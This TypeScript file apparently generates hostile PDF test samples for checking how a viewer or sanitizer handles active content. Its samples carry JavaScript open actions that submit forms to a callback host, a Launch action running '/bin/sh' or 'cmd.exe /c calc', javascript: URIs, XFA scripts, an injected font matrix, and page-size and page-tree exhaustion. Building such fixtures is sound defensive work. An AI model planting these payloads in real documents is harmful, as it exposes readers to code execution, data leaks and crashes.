import { bytesOf, type Hostile } from './hostile.ts'

/** Makes documents that act when they are opened, each by an entry of its catalogue or its page. */
export function riddenPdf(home: string): Hostile[] {
  const js = `app.alert(1);this.submitForm('${home}/pdf');app.launchURL('${home}/launch')`
  const entries: Record<string, { catalogue?: string; page?: string }> = {
    'script at the start': { catalogue: `/OpenAction<</S/JavaScript/JS(${js})>>` },
    'scripts by name': { catalogue: `/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(${js})>>]>>>>` },
    'script at the end': { catalogue: `/AA<</WC<</S/JavaScript/JS(${js})>>>>` },
    'script of a page': { page: `/AA<</O<</S/JavaScript/JS(${js})>>>>` },
    'a program': { catalogue: '/OpenAction<</S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>>>' },
    'an address': { catalogue: `/OpenAction<</S/URI/URI(${home}/uri)>>` },
    'an address that is a script': { catalogue: '/OpenAction<</S/URI/URI(javascript:alert\\(1\\))>>' },
    'another document': { catalogue: `/OpenAction<</S/GoToR/F<</FS/URL/F(${home}/a.pdf)>>>>` },
    'a form that is sent': { catalogue: `/OpenAction<</S/SubmitForm/F<</FS/URL/F(${home}/form)>>>>` },
    'a form of XML': {
      catalogue: `/AcroForm<</XFA[(a)(<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script contentType="application/x-javascript">${js}</script></xdp:xdp>)]>>`,
    },
    'a link over all of it': { page: `/Annots[<</Subtype/Link/Rect[0 0 600 800]/A<</S/URI/URI(${home}/link)>>>>]` },
    'a link that is a script': { page: `/Annots[<</Subtype/Link/Rect[0 0 600 800]/A<</S/JavaScript/JS(${js})>>>>]` },
    'a film in it': { page: `/Annots[<</Subtype/RichMedia/Rect[0 0 600 800]/A<</S/URI/URI(${home}/film)>>>>]` },
    'a picture from elsewhere': {
      page: `/Resources<</XObject<</I<</Type/XObject/Subtype/Image/F<</FS/URL/F(${home}/i.png)>>>>>>>>`,
    },
    'a font whose size is code': {
      page: '/Resources<</Font<</F<</Type/Font/Subtype/Type1/BaseFont/X/FontMatrix[1 0 0 1 0 (0\\);alert\\(1\\)//)]>>>>>>',
    },
    'a page of a mile': { page: '/MediaBox[0 0 4000000 4000000]' },
    'pages without end': { catalogue: '/Pages 1 0 R' },
  }
  return Object.entries(entries).map(([what, { catalogue = '', page = '' }]) => ({
    what: `pdf: ${what}`,
    name: '手册.pdf',
    content: bytesOf(documentOf(catalogue, page)),
  }))
}

function documentOf(catalogue: string, page: string): string {
  const content = 'BT /F 24 Tf 40 700 Td (x) Tj ET'
  const box = page.includes('/MediaBox') ? '' : '/MediaBox[0 0 600 800]'
  return `%PDF-1.7
1 0 obj<</Type/Catalog${catalogue.includes('/Pages') ? '' : '/Pages 2 0 R'}${catalogue}>>endobj
2 0 obj<</Type/Pages/Count 1/Kids[3 0 R]>>endobj
3 0 obj<</Type/Page/Parent 2 0 R${box}/Contents 4 0 R${page}>>endobj
4 0 obj<</Length ${content.length}>>stream
${content}
endstream endobj
trailer<</Root 1 0 R/Size 5>>
%%EOF`
}
